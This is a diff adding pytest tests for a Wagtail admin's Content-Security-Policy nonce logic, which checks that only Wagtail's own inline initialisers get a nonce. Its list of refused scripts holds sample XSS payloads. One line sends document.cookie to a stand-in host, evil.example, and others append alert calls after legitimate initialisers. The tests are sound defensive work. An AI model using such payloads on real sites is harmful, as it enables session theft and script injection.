@@ -1,0 +1,64 @@
+"""The admin's script policy: a nonce for Wagtail's own inline initialisers, and nothing else."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from portal.admin_csp import add_nonces, is_wagtail_initialiser
+
+ALLOWED = [
+    'new PageChooser("id_page", {"modelNames": ["wagtailcore.page"], "canChooseRoot": false});',
+    'new SnippetChooser("id_week", {"modalUrl": "/admin/snippets/choose/events/conferenceweek/"});',
+    'initDateChooser("id_start_date", {"dayOfWeekStart": 1, "format": "Y-m-d"});',
+    'initDateTimeChooser("id_go_live_at", {"dayOfWeekStart": 1});',
+    'createTaskChooser("id_task");',
+    """(function() {
+            var panel = new InlinePanel(JSON.parse("{\\u0022formsetPrefix\\u0022: \\u0022id_theme_links\\u0022}"));
+        })();""",
+]
+REFUSED = [
+    "alert(document.cookie)",
+    'new PageChooser("id_page", fetch("/steal"));',  # arguments that are not JSON data
+    'new Image().src = "https://evil.example/?" + document.cookie;',
+    'initDateChooser("id", {});alert(1);',
+    'new Function("alert(1)")();',
+    '(function() { var panel = new InlinePanel(JSON.parse("{}")); alert(1); })();',
+]
+
+
+@pytest.mark.parametrize("body", ALLOWED)
+def test_wagtail_initialisers_get_the_nonce(body):
+    assert is_wagtail_initialiser(body)
+    assert add_nonces(f"<p>x</p><script>{body}</script>", "N0nce") == f'<p>x</p><script nonce="N0nce">{body}</script>'
+
+
+@pytest.mark.parametrize("body", REFUSED)
+def test_anything_else_inline_gets_no_nonce(body):
+    assert not is_wagtail_initialiser(body)
+    html = f"<script>{body}</script>"
+    assert add_nonces(html, "N0nce") == html
+
+
+@pytest.mark.django_db
+def test_admin_pages_carry_the_nonce_in_header_and_scripts_with_a_right_length(client):
+    from tests.factories import UserFactory
+
+    client.force_login(UserFactory(role="superuser"))
+    response = client.get("/admin/snippets/events/event/add/")
+    assert response.status_code == 200
+    policy = response["Content-Security-Policy"]
+    nonce = re.search(r"script-src 'self' 'nonce-([^']+)'", policy).group(1)
+    body = response.content.decode()
+    assert f'<script nonce="{nonce}">initDateChooser(' in body
+    assert "<script>initDateChooser(" not in body
+    assert "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
+    assert int(response["Content-Length"]) == len(response.content)  # the body grew by the nonces
+
+
+@pytest.mark.django_db
+def test_the_site_policy_has_no_nonce_and_no_inline_allowance(client):
+    policy = client.get("/en/")["Content-Security-Policy"]
+    assert "script-src 'self';" in policy and "style-src 'self';" in policy
+    assert "nonce-" not in policy and "unsafe-inline" not in policy
